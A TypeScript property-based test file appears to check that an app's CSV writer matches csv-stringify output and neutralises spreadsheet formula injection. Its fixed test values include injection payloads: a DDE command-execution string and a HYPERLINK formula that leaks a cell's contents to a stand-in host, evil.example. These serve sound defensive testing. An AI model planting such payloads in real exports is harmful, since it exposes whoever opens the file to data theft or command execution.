/**
 * The app's CSV writer writes, byte for byte, what csv-stringify wrote with the options the app gave it (the writer
 * it replaced for speed), on generated rows of every kind of value the exports hold and some they do not; and the
 * file parses back to the cells, formula-safe.
 */
import { parse } from "csv-parse/sync";
import { stringify } from "csv-stringify/sync";
import fc from "fast-check";

import { csvCell, toCsv } from "~/infra/csv.server";

/** The writer as it was (app/infra/csv.server.ts before 2026-11-27, session 2). */
const FORMULA_START = /^[=+\-@\t\r]/;
const formulaSafe = (text: string) => (FORMULA_START.test(text) ? `'${text}` : text);
function referenceCsv(rows: Record<string, unknown>[], columns: readonly string[]) {
  return stringify(rows, { header: true, columns: [...columns], cast: { string: formulaSafe } });
}

/** Characters that change how a cell is written: separators, quotes, line breaks, formula starts, look-alikes. */
const TRICKY = [
  '"',
  ",",
  "\n",
  "\r",
  "\r\n",
  "=",
  "+",
  "-",
  "@",
  "\t",
  "'",
  " ",
  ";",
  "a",
  "0",
  "é",
  "\u2028",
  "\uFF1D",
];
const trickyText = fc.array(fc.constantFrom(...TRICKY), { maxLength: 8 }).map((parts) => parts.join(""));
const text = fc.oneof(trickyText, fc.string({ unit: "grapheme", maxLength: 12 }), fc.string({ unit: "binary" }));
const number = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.constantFrom(0, -0, -500, -14.3, 1e21, 1e-7, Number.NaN, Number.POSITIVE_INFINITY, Number.NEGATIVE_INFINITY),
);
const cellValue = fc.oneof(
  { weight: 5, arbitrary: text },
  { weight: 3, arbitrary: number },
  fc.bigInt(),
  fc.boolean(),
  fc.constant(null),
  fc.constant(undefined),
  fc.date(),
  fc.jsonValue({ maxDepth: 2 }).filter((v) => typeof v === "object" && v !== null),
);
const columnName = fc.oneof(fc.stringMatching(/^[a-z_][a-z0-9_]{0,10}$/), fc.constantFrom("=cmd", "a,b", 'say "x"'));
const table = fc.uniqueArray(columnName, { maxLength: 8 }).chain((columns) =>
  fc.tuple(
    fc.constant(columns),
    fc.array(fc.dictionary(fc.constantFrom(...columns, "not_a_column"), cellValue, { maxKeys: columns.length + 1 }), {
      maxLength: 20,
    }),
  ),
);

describe("the app's CSV writer", () => {
  it("writes exactly what csv-stringify wrote, for any rows", () => {
    fc.assert(
      fc.property(table, ([columns, rows]) => {
        expect(toCsv(rows, columns)).toBe(referenceCsv(rows, columns));
      }),
      { numRuns: 2000 },
    );
  });

  it("writes exactly what csv-stringify wrote for the cells that need care", () => {
    const values: unknown[] = [
      "",
      "plain",
      "a,b",
      'say "hi"',
      '"',
      "line\nbreak",
      "cr\rhere",
      "crlf\r\nhere",
      "=1+1",
      "+1",
      "-2+3, AZ",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "\t=cmd",
      "\r=1+1",
      '=HYPERLINK("http://evil.example/?leak="&A1, "Click")',
      "'already quoted",
      " leading space",
      "\uFF1D1+1",
      0,
      -0,
      -500,
      -14.3,
      100.5,
      Number.NaN,
      12n,
      true,
      false,
      null,
      undefined,
      new Date(0),
      { a: 'b"c', d: [1, 2] },
      [1, "x,y"],
    ];
    const rows = values.map((v) => ({ value: v, after: "x" }));
    expect(toCsv(rows, ["value", "after"])).toBe(referenceCsv(rows, ["value", "after"]));
    expect(toCsv([], ["a", "=b"])).toBe(referenceCsv([], ["a", "=b"]));
    expect(toCsv([{}], [])).toBe(referenceCsv([{}], []));
  });

  it("reads back as the cells, no text cell starting a formula", () => {
    fc.assert(
      fc.property(fc.array(fc.tuple(text, number), { maxLength: 20 }), (pairs) => {
        const rows = pairs.map(([t, n]) => ({ text: t, number: n }));
        const read = parse(toCsv(rows, ["text", "number"]), { columns: true, relax_column_count: true }) as Record<
          string,
          string
        >[];
        expect(read).toHaveLength(rows.length);
        read.forEach((cells, i) => {
          expect(cells.text).toBe(formulaSafe(rows[i].text));
          expect(cells.text).not.toMatch(/^[=+\-@\t\r]/);
          expect(cells.number).toBe(String(rows[i].number));
        });
      }),
      { numRuns: 500 },
    );
  });

  it("refuses a value no CSV cell can hold", () => {
    expect(() => csvCell(Symbol("x"))).toThrow(TypeError);
    expect(() => csvCell(() => 1)).toThrow(TypeError);
  });
});
